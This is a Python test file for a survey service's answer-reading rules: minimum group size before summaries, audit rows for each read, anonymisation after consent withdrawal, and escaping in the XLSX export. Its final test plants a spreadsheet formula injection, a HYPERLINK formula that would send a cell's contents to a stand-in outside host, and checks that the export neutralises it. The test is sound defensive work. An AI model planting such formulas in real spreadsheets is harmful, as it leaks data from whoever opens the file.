"""Reading answers, the finer rules: the summary appears at exactly MIN_GROUP responses, each read
writes one audit row (none when the read is refused), a withdrawn respondent's response shows no
name and no free text, answers read as option texts."""

from __future__ import annotations

import pytest
from sqlmodel import select

from shared.auth import Principal
from shared.contracts.registry import ParticipantWithdrawn
from shared.errors import Forbidden, NotFound

from services.surveys import domain
from services.surveys.answers import AnswerReader, answer_text, numeric
from services.surveys.models import AnswerRead
from tests.component.helpers import deliver
from tests.component.test_surveys_pages import CURATOR, surveys  # noqa: F401 (fixture)

SATISFACTION = domain.BUILT_IN[("satisfaction_mentee", 2)]
READER = Principal(sub="curator-s1", role="school_curator", scope="school", scope_id="s1", name="Куратор")
OTHER = Principal(sub="curator-s2", role="school_curator", scope="school", scope_id="s2", name="Другой куратор")
MENTOR = Principal(sub="m1", role="mentor", scope="school", scope_id="s1", name="Наставник")


def answers(text: str, rating: int = 8) -> dict:
    out: dict = {}
    for item in SATISFACTION.items:
        if item.kind == "scale":
            out[item.code] = rating
        elif item.kind == "single":
            out[item.code] = "yes"
        elif item.kind == "text":
            out[item.code] = text
    return out


async def submit(client, respondent: str, text: str, rating: int = 8) -> str:
    response = await client.post("/api/v1/responses", headers=CURATOR, json={
        "instrument": {"code": "satisfaction_mentee", "version": 2}, "respondent_id": respondent, "answers": answers(text, rating)})
    assert response.status_code == 201, response.text
    return response.json()["id"]


async def audit_rows(service) -> list[AnswerRead]:
    async with service.runtime.db.sessions() as session:
        return list((await session.exec(select(AnswerRead))).all())


async def test_the_summary_appears_at_min_group_and_every_read_is_audited(surveys) -> None:
    service, client = surveys
    reader = AnswerReader(service.service)
    ids = [await submit(client, pid, f"текст {n}", rating=6 + n % 2 * 2) for n, pid in enumerate(["e1", "e2", "e3", "e1"])]
    page = await reader.answers(READER, school_id=None, instrument=None, campaign_id=None)
    assert len(page.rows) == domain.MIN_GROUP - 1 and page.summary is None
    first_text = next(i for i in SATISFACTION.items if i.kind == "text")
    assert sorted(dict(page.free_texts)[first_text.text]) == [f"текст {n}" for n in range(4)]
    ids.append(await submit(client, "e2", "текст 4", rating=6))
    page = await reader.answers(READER, school_id=None, instrument="satisfaction_mentee:2", campaign_id=None, what="export")
    assert page.summary is not None
    first = next(s for s in page.summary if s.text == SATISFACTION.items[0].text)
    assert first.count == 5 and first.mean == pytest.approx((6 + 8 + 6 + 8 + 6) / 5)
    await reader.response(READER, ids[0])
    rows = await audit_rows(service)
    assert [r.what for r in sorted(rows, key=lambda r: r.read_at)] == ["list", "export", "response"]
    assert sorted(next(r for r in rows if r.what == "export").response_ids) == sorted(ids)
    assert next(r for r in rows if r.what == "response").response_ids == [ids[0]]
    assert all(r.reader_id == "curator-s1" and r.reader_role == "school_curator" for r in rows)


async def test_refused_reads_leave_no_audit_and_show_nothing(surveys) -> None:
    service, client = surveys
    reader = AnswerReader(service.service)
    response_id = await submit(client, "e1", "личное")
    with pytest.raises(NotFound):
        await reader.response(OTHER, response_id)
    with pytest.raises(Forbidden):
        await reader.response(MENTOR, response_id)
    with pytest.raises(Forbidden):
        await reader.answers(MENTOR, school_id="s1", instrument=None, campaign_id=None)
    other = await reader.answers(OTHER, school_id="s1", instrument=None, campaign_id=None)
    assert other.school_id == "s2" and other.rows == []
    assert [r.school_id for r in await audit_rows(service)] == []
    with pytest.raises(Forbidden):
        await reader.audit(READER)


async def test_a_withdrawn_respondents_response_has_no_name_and_no_free_text(surveys) -> None:
    service, client = surveys
    reader = AnswerReader(service.service)
    response_id = await submit(client, "e3", "моё личное мнение")
    await deliver(service, ParticipantWithdrawn(participant_id="e3", school_id="s1", reason="consent_withdrawn"))
    page = await reader.response(READER, response_id)
    assert page.row.name == "данные удалены по отзыву согласия"
    assert all("моё личное мнение" not in answer for _, answer in page.answers)


def test_answers_read_as_people_wrote_them() -> None:
    rating, yes_no, text = (next(i for i in SATISFACTION.items if i.kind == kind) for kind in ("scale", "single", "text"))
    assert answer_text(rating, 7) == "7" and numeric(rating, 7) == 7.0
    assert answer_text(yes_no, "yes") == "Да" and numeric(yes_no, "no") == 0
    assert answer_text(text, "") == "—" and numeric(text, "слова") is None


async def test_a_formula_typed_as_an_answer_is_text_in_the_curators_export(surveys) -> None:
    """Issue 13, M2: a mentee types `=HYPERLINK(…)` as a free answer; the curator's XLSX of the
    answers shows it as text (apostrophe), never as a formula; ratings stay numbers."""
    from io import BytesIO

    from openpyxl import load_workbook

    from shared.auth import COOKIE_NAME
    from shared.web import issue_session

    from tests.component.helpers import bearer
    from tests.conftest import SECRET

    service, client = surveys
    planted = '=HYPERLINK("http://x.example/?"&A1,"Подробнее")'
    mentee = bearer("mentee", "school", "s1", sub="e1")
    response = await client.post("/api/v1/responses", headers=mentee, json={
        "instrument": {"code": "satisfaction_mentee", "version": 2}, "respondent_id": "e1", "answers": answers(planted, 9)})
    assert response.status_code == 201, response.text
    client.cookies.set(COOKIE_NAME, issue_session(SECRET, READER.model_copy(update={"sid": "s-1"})))
    export = await client.get("/answers.xlsx", params={"school_id": "s1", "instrument": "satisfaction_mentee:2"})
    assert export.status_code == 200, export.text[:300]
    assert export.headers["content-disposition"].startswith('attachment; filename="answers-satisfaction_mentee.xlsx"')
    sheet = load_workbook(BytesIO(export.content)).active
    cells = [c for line in sheet.iter_rows() for c in line if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "'" + planted in {c.value for c in cells}
    assert 9 in {c.value for c in cells if c.data_type == "n"}
